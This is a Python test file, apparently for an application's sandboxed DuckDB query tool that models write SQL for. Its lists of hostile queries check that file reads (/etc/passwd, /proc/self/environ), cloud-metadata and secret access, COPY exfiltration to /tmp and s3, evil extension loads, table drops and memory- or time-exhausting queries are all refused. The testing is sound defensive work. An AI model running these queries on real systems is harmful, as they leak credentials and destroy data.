"""Files, network, settings, endless work: the SQL that models were made to write, and its end."""

import time
from collections.abc import Iterator

import duckdb
import pytest

from aiapp.db import in_db
from aiapp.errors import InvalidInput, NotFound
from documents.metadata import parse_condition
from documents.models import Document, Table
from documents.parsing import process
from documents.parsing.tabular import database
from documents.parsing.tabular.grids import read_grids
from documents.parsing.tabular.layout import find_tables
from documents.search.scope import Filters, Scope
from documents.tables import listing, querying
from documents.tests.library import reader, table_document

pytestmark = pytest.mark.django_db(transaction=True)

STOCK = b"part,count\n001,5\n002,7\n003,9\n"
NOTHING_ELSE = "Queries reach the listed tables and nothing else"
ONE_SELECT = "Only one SELECT"


@pytest.fixture
def scope(alice, storage) -> Scope:
    table_document(alice, "stock.csv", STOCK)
    return Scope(alice)


@pytest.fixture(scope="module")
def stock(tmp_path_factory) -> Iterator[duckdb.DuckDBPyConnection]:
    """The database as a process of a query has it when it sees a statement."""
    path = tmp_path_factory.mktemp("stock") / "stock.csv"
    path.write_bytes(STOCK)
    [grid] = read_grids(str(path), "csv")
    [table] = find_tables(grid)
    con = database.connect(256 * 2**20)
    database.load(con, "stock", table)
    database.lock(con)
    yield con
    con.close()


# Read, listed or written by statements that others carried out, or by their kin.
FUNCTIONS = (
    "SELECT * FROM read_csv('/etc/passwd'), stock",
    "SELECT content FROM read_text('/proc/self/environ'), stock",
    "SELECT * FROM read_blob('/proc/self/mem'), stock",
    "SELECT * FROM glob('/**'), stock",
    "SELECT * FROM sniff_csv('/etc/passwd'), stock",
    "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data'), stock",
    "SELECT * FROM duckdb_settings(), stock",
    "SELECT * FROM duckdb_secrets(), stock",
    "SELECT * FROM pragma_database_list(), stock",
    "SELECT getenv('SECRET_KEY') FROM stock",
    "SELECT current_setting('temp_directory') FROM stock",
    "SELECT * FROM query('SELECT * FROM read_text(''/etc/passwd'')'), stock",
    "SELECT * FROM query_table('stock'), stock",
    "SELECT part FROM stock WHERE count > (SELECT count(*) FROM read_text('/etc/hostname'))",
    "WITH a AS (SELECT * FROM read_json('/etc/passwd')) SELECT * FROM a, stock",
)
STATEMENTS = (
    "COPY stock TO '/tmp/stolen.csv'",
    "COPY (SELECT 1) TO 's3://bucket/stock'",
    "ATTACH '/tmp/other.db' AS stock",
    "INSTALL httpfs; SELECT * FROM stock",
    "LOAD '/tmp/evil.duckdb_extension'; SELECT * FROM stock",
    "SET enable_external_access = true; SELECT * FROM stock",
    "PRAGMA database_list; SELECT * FROM stock",
    "CREATE TABLE copied AS SELECT * FROM stock",
    "DELETE FROM stock",
    "DROP TABLE stock",
    "EXPORT DATABASE '/tmp/stock'",
    "CALL pragma_version(); SELECT * FROM stock",
)
OTHER_TABLES = (
    "SELECT * FROM '/etc/passwd', stock",
    "SELECT * FROM duckdb_settings, stock",
    "SELECT * FROM information_schema.tables, stock",
    "SELECT * FROM sqlite_master, stock",
)


@pytest.mark.parametrize(
    ("statements", "told"),
    [(FUNCTIONS, NOTHING_ELSE), (STATEMENTS, ONE_SELECT), (OTHER_TABLES, "There is no table")],
    ids=["functions", "statements", "tables"],
)
async def test_what_is_no_question_about_tables_is_refused_in_a_sentence(
    scope: Scope, stock: duckdb.DuckDBPyConnection, statements, told
) -> None:
    for sql in statements:
        assert database.ask(stock, sql, ["stock"]).error.startswith(told), sql
    assert database.ask(stock, "SELECT sum(count) FROM stock", ["stock"]).rows == [["21"]]
    with pytest.raises(InvalidInput) as refused:
        await querying.run_query(scope, statements[0])
    assert refused.value.message.startswith(told)


async def test_a_question_about_tables_is_answered(scope: Scope) -> None:
    assert (await querying.run_query(scope, "SELECT sum(count) FROM stock")).rows == [["21"]]


ENDLESS = (
    "WITH RECURSIVE a AS (SELECT 1 AS n FROM stock UNION ALL SELECT n + 1 FROM a)"
    " SELECT max(n) FROM a",
    "SELECT count(*) FROM stock a, range(1000000) b, range(1000000) c WHERE a.count * b.range"
    " + c.range = 7",
)
HUGE = (
    "SELECT repeat(part, 900000000) FROM stock",
    "SELECT list(range) FROM range(500000000), stock",
    "SELECT part, string_agg(repeat('x', 1000)) FROM stock, range(10000000) GROUP BY part",
)


async def test_endless_statements_end_in_time(scope: Scope, settings) -> None:
    settings.TABLE_QUERY_SECONDS = 1
    for sql in ENDLESS:
        began = time.process_time()
        with pytest.raises(InvalidInput, match=r"took longer than 1 seconds|more memory"):
            await querying.run_query(scope, sql)
        # It is another process that worked.
        assert time.process_time() - began < 1


async def test_statements_that_would_fill_the_memory_end(scope: Scope, settings) -> None:
    settings.PARSE_MEMORY_BYTES = 700 * 2**20
    for sql in HUGE:
        with pytest.raises(InvalidInput, match="more memory than a query may take"):
            await querying.run_query(scope, sql)


async def test_a_long_result_is_shown_in_part_and_counted(scope: Scope) -> None:
    found = await querying.run_query(scope, "SELECT range FROM range(50000), stock")
    assert found.count == 150_000
    assert 0 < len(found.rows) <= 200
    wide = await querying.run_query(scope, "SELECT repeat('x', 100000) AS x FROM stock")
    assert len(wide.rows[0][0]) < 1_000


async def test_a_wrong_statement_is_told_in_the_words_of_the_database(
    scope: Scope, stock: duckdb.DuckDBPyConnection
) -> None:
    for sql, told in (
        ("SELECT FROM stock", "Parser Error"),
        ("SELECT sum(part) FROM stock", "No function matches"),
        ("SELECT now() FROM stock", "has a time zone"),
    ):
        assert told in database.ask(stock, sql, ["stock"]).error
    for sql, told in (
        ("SELECT sum(amount) FROM stock", 'Referenced column "amount" not found'),
        ("SELECT " + "(" * 3000 + "1" + ")" * 3000 + " FROM stock", "depth"),
        ("SELECT 1", "names no table"),
        ("SELECT * FROM stocks", "names no table"),
    ):
        with pytest.raises(InvalidInput, match=told):
            await querying.run_query(scope, sql)


async def test_others_tables_are_neither_listed_nor_asked(scope: Scope) -> None:
    stranger = await in_db(reader, "stranger")
    theirs = Scope(stranger.user)
    assert (await listing.list_tables(theirs, "", 10)).count == 0
    assert not await listing.has_tables(theirs)
    with pytest.raises(InvalidInput, match="names no table"):
        await querying.run_query(theirs, "SELECT * FROM stock")
    document = await in_db(Document.objects.get)
    for limited in (
        Scope(stranger.user, documents=[document.pk]),
        Scope(stranger.user, collections=[document.collection_id]),
    ):
        with pytest.raises(NotFound):
            await querying.run_query(limited, "SELECT * FROM stock")
        with pytest.raises(NotFound):
            await listing.list_tables(limited, "", 10)
    assert await listing.has_tables(scope)
    assert (await listing.list_tables(Scope(scope.user, documents=[]), "", 10)).count == 0


async def test_a_filter_by_metadata_limits_tables(scope: Scope) -> None:
    document = await in_db(Document.objects.get)
    document.metadata = {"year": 2024}
    await in_db(document.save)
    for year, count in ((2024, 1), (2023, 0)):
        filters = Filters(metadata=parse_condition({"year": year}))
        limited = Scope(scope.user, filters=filters)
        assert (await listing.list_tables(limited, "", 10)).count == count
        assert await listing.has_tables(limited) is bool(count)


async def test_two_tables_of_a_name_are_told_apart(scope: Scope) -> None:
    await in_db(table_document, scope.user, "Stock.csv", b"part,count\n001,100\n")
    found = await listing.list_tables(scope, "", 10)
    names = [each.name for each in found.tables]
    assert len(set(names)) == 2
    sums = {(await querying.run_query(scope, f"SELECT sum(count) FROM {name}")).rows[0][0]  # noqa: S608 - a name of ours
            for name in names}  # fmt: skip
    assert sums == {"21", "100"}


async def test_a_table_that_is_read_otherwise_than_it_was_listed_is_listed_anew(
    scope: Scope,
) -> None:
    listed = await in_db(Table.objects.get)
    listed.columns = [{"name": "other", "type": "BIGINT"}]
    await in_db(listed.save)
    with pytest.raises(InvalidInput, match="Call list_tables again"):
        await querying.run_query(scope, "SELECT * FROM stock")
    [found] = (await listing.list_tables(scope, "", 1)).tables
    assert [column["name"] for column in found.table.columns] == ["part", "count"]
    assert (await querying.run_query(scope, "SELECT count(*) FROM stock")).rows == [["3"]]


def test_the_process_of_a_query_can_open_no_file(tmp_path) -> None:
    task = tmp_path / "task.json"
    task.write_text("{}")
    reports = list(
        process.pages_by("documents.tests.parsing.office.opening_files:read_pages", str(task))
    )
    assert reports == ["opened", "refused"]
